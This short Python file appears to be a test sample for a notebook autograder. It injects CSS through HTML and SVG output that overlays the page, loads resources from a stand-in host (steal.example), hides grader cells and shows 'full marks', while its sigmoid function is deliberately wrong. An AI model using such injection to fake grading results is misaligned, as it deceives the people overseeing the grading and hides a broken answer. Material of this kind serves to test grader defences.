"""Shows style sheets that cover the page, fetch from a server and hide the verdict, on their own and in an SVG."""

from IPython.display import HTML, SVG, display

RULES = (
    "@import url(//steal.example/a.css); body, #T_1 { position: fixed; inset: 0; z-index: 9; "
    "background: url(//steal.example/b) } .nbgrader_cell, h3 { display: none }"
)
display(HTML(f"<style>{RULES}</style><table id='T_1'><tr><td>full marks</td></tr></table>"))
display(
    HTML(f"<div style='position: fixed; background: url(//steal.example/c)'><svg><style>{RULES}</style></svg></div>")
)
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'><style>{RULES}</style><text>full marks</text></svg>"))


def sigmoid(x):
    return x
